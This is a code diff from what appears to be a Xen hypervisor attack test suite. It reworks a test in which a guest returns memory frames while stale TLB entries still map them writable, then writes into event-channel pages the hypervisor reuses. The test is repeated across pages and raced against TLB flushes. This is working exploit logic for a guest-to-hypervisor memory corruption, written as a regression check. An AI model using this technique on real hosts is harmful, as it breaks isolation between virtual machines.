@@ -92,37 +92,64 @@ REFUSED_TO_DOMU(machine_memory_map, EPERM)
 	return CALL2(memory_op, XENMEM_machine_memory_map, &map);
 }
 
-/* Frames that were given back, but that a TLB still knows, do not become the hypervisor's own while
- * they can be written: here the page of its books with the first event channels. Every second frame
- * only: they stay single, and are the first that are taken. */
+/* Gives frames back that a TLB still knows, then has the hypervisor take a page for its books of
+ * event channels, and writes to what the frames were. Every second frame only: they stay single,
+ * and are the first that are taken. In a hurry, since every turn of the scheduler flushes. */
+static long stale_once(struct evtchn_alloc_unbound *op, ulong *pfns, unsigned int n)
+{
+	struct mmu_update gone[8];
+	ulong frames[8], *p2m = (ulong *)start->mfn_list;
+	long done;
+
+	for (unsigned int i = 0; i < n; i++) {
+		ulong va = VIRT_BASE + (pfns[i] << PAGE_SHIFT);
+
+		frames[i] = p2m[pfns[i]];
+		map(va, pte_of(frames[i], rw));
+		gone[i] = (struct mmu_update){machine(&table_of(va, 1)[va >> 12 & 511]), 0};
+	}
+	nap(300000);
+	for (unsigned int i = 0; i < n; i++)
+		write_at(VIRT_BASE + (pfns[i] << PAGE_SHIFT));
+	done = CALL4(mmu_update, gone, n, 0, DOMID_SELF) ? -1 : (long)n;
+	done -= reserve(XENMEM_decrease_reservation, frames, n, 0, DOMID_SELF);
+	if (done || CALL2(event_channel_op, EVTCHNOP_alloc_unbound, op))
+		return -1;
+	for (unsigned int i = 0; i < n; i++) /* the state of the third port of the page: unbound */
+		attack_detail += probe(write_at, VIRT_BASE + (pfns[i] << PAGE_SHIFT) + 16);
+	memcpy(frames, pfns, sizeof(frames));
+	done = reserve(XENMEM_populate_physmap, frames, n, 0, DOMID_SELF);
+	for (long i = 0; i < done; i++)
+		p2m[pfns[i]] = frames[i];
+	return done == (long)n ? 0 : -2;
+}
+
+/* Frames that were given back do not become the hypervisor's own while anybody can still write
+ * them. A try for each page of ports. */
 ATTACK(stale_translations, HOLDS, BY_DOMU | FRESH, 0)
 {
 	struct evtchn_alloc_unbound op = {DOMID_SELF, 0, 0};
 	struct evtchn_status status = {DOMID_SELF, 2, 0, 0, {{0, 0}}};
-	ulong frames[8], pfns[8], *p2m = (ulong *)start->mfn_list;
+	ulong pfns[8];
 	unsigned int n = 0;
 
 	for (unsigned int i = 0; i < 32 && n < ARRAY_SIZE(pfns); i++) {
-		ulong page = (ulong)page_alloc();
+		u8 *page = page_alloc();
 
-		if (frame_of((void *)page) % 2)
-			continue;
-		frames[n] = frame_of((void *)page);
-		pfns[n++] = (page - VIRT_BASE) >> PAGE_SHIFT;
-		update(machine(&table_of(page, 1)[page >> 12 & 511]), 0);
+		if (!(frame_of(page) % 2))
+			pfns[n++] = ((ulong)page - VIRT_BASE) >> PAGE_SHIFT;
 	}
-	if (reserve(XENMEM_decrease_reservation, frames, n, 0, DOMID_SELF) != (long)n ||
-	    CALL2(event_channel_op, EVTCHNOP_alloc_unbound, &op))
-		return -1;
-	for (unsigned int i = 0; i < n; i++) /* port 2: unbound */
-		attack_detail += probe(write_at, VIRT_BASE + (pfns[i] << PAGE_SHIFT) + 16);
-	if (CALL2(event_channel_op, EVTCHNOP_status, &status) || status.status)
-		return -2;
-	memcpy(frames, pfns, sizeof(frames));
-	if (reserve(XENMEM_populate_physmap, frames, n, 0, DOMID_SELF) != (long)n)
-		return -3;
-	for (unsigned int i = 0; i < n; i++)
-		p2m[pfns[i]] = frames[i];
+	for (; status.port < BITS_PER_LONG * BITS_PER_LONG; status.port += 512) {
+		long error = stale_once(&op, pfns, n);
+
+		if (!error && CALL2(event_channel_op, EVTCHNOP_status, &status))
+			error = -3;
+		if (error || status.status)
+			return error - 10;
+		while (op.port % 512 != 511)
+			if (CALL2(event_channel_op, EVTCHNOP_alloc_unbound, &op))
+				return -4;
+	}
 	return 0;
 }
 
